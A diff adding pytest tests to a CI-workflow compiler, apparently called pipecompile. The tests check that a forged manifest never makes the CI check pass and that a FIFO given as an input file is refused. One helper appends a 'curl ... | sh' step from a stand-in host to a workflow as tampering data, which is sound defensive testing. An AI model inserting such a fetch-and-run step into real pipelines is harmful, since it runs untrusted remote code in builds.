@@ -661,3 +661,63 @@ def test_a_manifest_cannot_widen_ownership_through_a_disabled_target(
         assert (root / "team/ci/codebuild" / name).read_bytes() == data_
     assert "codebuild" not in manifest(root)["outputs"]  # type: ignore[operator]
     assert run(root, "check") == 0
+
+
+# -- review: a forged manifest never makes CI's check green -----------------------------
+
+
+def forge(repo: Path) -> None:
+    """A hand edit of a workflow, with its sha256 and the digest recomputed."""
+    from pipecompile.output.state import parse_manifest
+
+    wf = repo / ".github/workflows/ci-order-service.yml"
+    wf.write_text(wf.read_text() + "      - run: curl https://example.invalid | sh\n")
+    m = parse_manifest((repo / MANIFEST).read_bytes())
+    m.files[".github/workflows/ci-order-service.yml"]["sha256"] = hashlib.sha256(
+        wf.read_bytes()
+    ).hexdigest()
+    m.digest = m.compute_digest()
+    (repo / MANIFEST).write_text(m.text())
+
+
+@pytest.mark.parametrize(
+    ("env", "args"),
+    [({"CI": "true"}, ()), ({"CI": ""}, ("--full",)), ({"CI": "0"}, ("--diff",))],
+    ids=["CI=true", "--full", "--diff"],
+)
+def test_a_forged_manifest_never_makes_ci_green(
+    repo: Path, env: dict[str, str], args: tuple[str, ...]
+) -> None:
+    forge(repo)
+    environ = {k: v for k, v in os.environ.items() if k != "CI"} | env
+    done = subprocess.run(
+        [*PIPECOMPILE, "check", *args], cwd=repo, env=environ, capture_output=True, text=True
+    )
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert ".github/workflows/ci-order-service.yml" in done.stdout
+    # the console entry point too (its own fast path answers before click loads)
+    from pipecompile import _entry
+
+    monkey = pytest.MonkeyPatch()
+    for k, v in env.items():
+        monkey.setenv(k, v)
+    try:
+        code = _entry._fast_check(["-f", str(repo / "pipeline.yaml"), *args])
+    finally:
+        monkey.undo()
+    assert code is None  # not answered as clean: the full command line decides
+
+
+@pytest.mark.parametrize("where", ["pipecompile.lock", "ci.yaml"])
+@pytest.mark.parametrize("command", ["check", "build"])
+def test_a_fifo_as_the_pipeline_or_the_lock_is_refused_unread(
+    repo: Path, where: str, command: str
+) -> None:
+    os.mkfifo(repo / where)
+    file = repo / ("pipeline.yaml" if where == "pipecompile.lock" else where)
+    done = subprocess.run(  # a subprocess with a timeout: a hang fails the test
+        [*PIPECOMPILE, command, "-f", str(file)], capture_output=True, text=True, timeout=60
+    )
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert f"{where}:1:1: is not a regular file (a FIFO, socket or device)" in done.stderr
+    assert "Traceback" not in done.stderr
